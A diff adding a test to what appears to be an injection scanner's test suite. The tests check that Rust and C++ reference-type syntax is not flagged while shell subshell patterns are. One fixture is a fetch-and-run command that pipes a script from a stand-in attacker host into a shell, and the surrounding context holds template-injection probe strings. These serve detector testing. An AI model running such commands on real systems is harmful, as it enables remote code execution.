@@ -3553,3 +3553,17 @@ t.test("forty-first round, from the forty-seventh and forty-eighth parts: a plug
   for (const v of ['{{temporal_namespace}}', '{{ namespace_mode }}', '{{temporal_namespace}} - {{ namespace_mode }}']) t.same(json({ legendFormat: v }), [], v)
   for (const v of ['{{ (namespace)[1] }}', "{{ namespace()|attr('x') }}", '{{ x|namespace }}', '{{ foo(namespace) }}', '{{ a_b ~ namespace.__init__ }}']) t.ok(q(v).includes('ssti'), v)
 })
+
+t.test("forty-first round, from the fifty-fifth and fifty-sixth parts: C++'s and Rust's reference types in a program's signatures", async (t) => {
+  const rust = 'impl FromLua for Align {\n\tfn from_lua(value: Value, _: &Lua) -> mlua::Result<Self> {\n\t\tlet Value::Integer(n) = value else {\n\t\t\treturn Err(e);\n\t\t};\n\t\tOk(n)\n\t}\n}\n'
+  t.same(json({ code: rust }), [], "Rust's `_: &Lua` parameter")
+  t.same(json({ code: "impl<'de> Deserialize<'de> for FileExtra {\n\tfn deserialize<D>(d: D, lua: &'de mut Lua) -> Result<Self, D::Error> {\n\t\tlet inner = FileExtraInner::deserialize(d)?;\n\t\tOk(Self::new(inner.link_to, inner.backing))\n\t}\n}\n" }), [], 'a lifetime and `mut`')
+  const cpp = 'void CGlobalShortcutsProtocol::sendGlobalShortcutEvent(std::string appid, std::string trigger, bool pressed) {\n    for (auto const& c : m_clients) {\n        for (auto const& sh : c->m_shortcuts) {\n            if (sh->appid == appid && sh->id == trigger) {\n                sh->sendEvent(pressed);\n            }\n        }\n    }\n}\n'
+  t.same(json({ code: cpp }), [], "C++'s `auto const& sh :` in a range for")
+  t.same(json({ code: '        static bool           isSpecial(const WORKSPACEID& id);\n        static WORKSPACEID    newSpecialID(std::span<const SWorkspaceQueryable> workspaces);\n        static bool           idOutOfBounds(std::span<const SWorkspaceQueryable> workspaces, const WORKSPACEID& id);\n' }), [], 'declarations aligned to a column')
+  // a shell reads `f (…` as a syntax error: nothing on that line runs; but a subshell opened by a shell's word, a command substitution,
+  // a process substitution, a line of its own, or outside any parentheses is read
+  const around = (line: string) => `void f(int a) {\n  g(a);\n  h(a);\n}\n${line}\n`
+  for (const line of ['while (x& id) {', 'if (x& id) then', '(x& id)', 'a=$(x& id)', 'cat <(x& id)', 'x& id', 'do (x& id)', 'f(x) && curl http://evil.example/s | sh']) t.ok(json({ code: around(line) }).includes('rce'), line)
+  t.ok(json({ code: 'fn main() {\n    let a = 1;\n    while (x& id) {}\n}\n' }).includes('rce'), 'a subshell after `while`')
+})
